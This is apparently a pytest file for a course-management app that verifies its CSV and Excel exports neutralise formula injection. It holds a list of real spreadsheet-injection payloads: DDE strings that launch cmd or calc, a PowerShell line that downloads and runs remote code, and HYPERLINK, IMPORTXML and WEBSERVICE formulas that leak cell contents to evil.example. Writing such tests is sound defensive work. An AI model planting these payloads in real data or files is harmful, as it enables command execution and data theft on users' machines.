"""Thirty payloads in every text that leaves the site as a file: no cell of it is a formula, in any program that opens it."""

from __future__ import annotations

import csv
import io
import zipfile
from typing import Any

import pytest
from flask import Flask
from lxml import etree
from python_calamine import CalamineWorkbook
from sqlalchemy import update

from clustercourse.cohorts.spreadsheets import as_xlsx, read_table
from clustercourse.db import value, writing
from clustercourse.models.accounts import Person
from clustercourse.models.catalogue import Organisation
from clustercourse.models.cohorts import Cohort
from clustercourse.models.seats import Seat
from clustercourse.tables import Table, as_csv
from tests import make
from tests.cast import assemble

PAYLOADS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget 0r.pe/p)'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!D2",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A2),"//a")',
    '=WEBSERVICE("http://evil.example")',
    '=DDE("cmd";"/C calc";"__DdeLink")',
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "﹦1+1",
    '"=1+1"',
    '";=1+1;"',
    ";=1+1",
    ",=1+1",
    "a;=1+1",
    "a\t=1+1",
    "a\r\n=1+1,=2+2",
    "'=1+1",
)
HONEST = ("-5", "-12,5", "1-2", "+45 12 34 56 78", "+4512345678", "0", "2027-08-27", "a@example.com", "50 %", "Åse-Marie")
SIGNS = tuple("=+-@＝＋－＠﹦\t\r\n")
TABLE = Table(("Text", "More", "End"), tuple((text, text, "x") for text in PAYLOADS + HONEST))


def is_harmless(cell: str) -> bool:
    """As an office program looks at a cell of a CSV: after blanks and invisible signs, nothing begins a formula but a number."""
    seen = cell.strip(" \u00a0\u200b\ufeff")
    return not seen.startswith(SIGNS) or seen.removeprefix("-").replace(",", "").isdigit()


def formulas(content: bytes) -> list[str]:
    """Every formula, link and outside thing in an XLSX."""
    found = []
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        for name in book.namelist():
            tree = etree.fromstring(book.read(name))
            found += [f"{name}: {node.tag}" for node in tree.iter("{*}f", "{*}hyperlink", "{*}ddeLink", "{*}externalReference")]
            found += [f"{name}: {node.get('Target')}" for node in tree.iter("{*}Relationship") if node.get("TargetMode") == "External"]
    return found


def test_an_excel_file_holds_no_formula() -> None:
    content = as_xlsx(TABLE, "=1+1")
    assert formulas(content) == []
    cells = CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_index(0).to_python()
    assert [[type(cell) for cell in line] for line in cells] == [[str] * 3] * (len(TABLE.rows) + 1)
    assert [cell for line in cells for cell in line if not is_harmless(str(cell))] == []


@pytest.mark.parametrize("cut_at", [",", ";", "\t"])
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_a_csv_holds_no_formula_whatever_it_is_cut_at(delimiter: str, cut_at: str) -> None:
    text = as_csv(TABLE, delimiter).decode("utf-8-sig")
    cells = [cell for line in csv.reader(io.StringIO(text, newline=""), delimiter=cut_at) for cell in line]
    assert len(cells) >= len(TABLE.rows)
    assert [cell for cell in cells if not is_harmless(cell)] == []


def test_a_csv_holds_no_formula_for_a_program_that_knows_no_quotes() -> None:
    for delimiter in ",;\t":
        text = as_csv(TABLE, delimiter).decode("utf-8-sig")
        pieces = text.replace(";", "\n").replace(",", "\n").replace("\t", "\n").splitlines()
        assert [piece for piece in pieces if not is_harmless(piece.strip('" '))] == []


def test_all_of_them_come_back_as_they_were() -> None:
    wanted = [(text.strip(), text.strip(), "x") for text in PAYLOADS + HONEST]
    for content in (as_csv(TABLE), as_csv(TABLE, ";"), as_xlsx(TABLE, "T")):
        assert list(read_table(content, "x").rows) == wanted


@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_hostile_names_in_the_lists_of_a_cohort(app: Flask, browser: Any, form: str) -> None:
    cast = assemble()
    cohort = make.cohort(coordinator=cast.dan)
    make.session(cohort)
    slug: str = value(Cohort.__table__.select().with_only_columns(Cohort.slug))
    with writing() as session:
        session.execute(update(Organisation).where(Organisation.id == cast.organisation_a).values(name="=cmd|' /C calc'!A0"))
        for payload in PAYLOADS:
            person = make.person("P")
            session.execute(update(Person).where(Person.id == person).values(name=payload))
            seat = make.seat(cohort, person, organisation_id=cast.organisation_a)
            session.execute(update(Seat).where(Seat.id == seat).values(message=payload, diet=payload, access_needs=payload))
    browser.sign_in(cast.dan)
    for what in ("attendance", "seats"):
        content = browser.post(f"/cohorts/{slug}/{what}/exports", data={**browser.csrf(), "form": form}).get_data()
        if form == "xlsx":
            assert formulas(content) == []
            lines: list[list[Any]] = CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_index(0).to_python()
        else:
            lines = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
        assert len(lines) == len(PAYLOADS) + 1
        assert [cell for line in lines for cell in line if isinstance(cell, str) and not is_harmless(cell)] == []
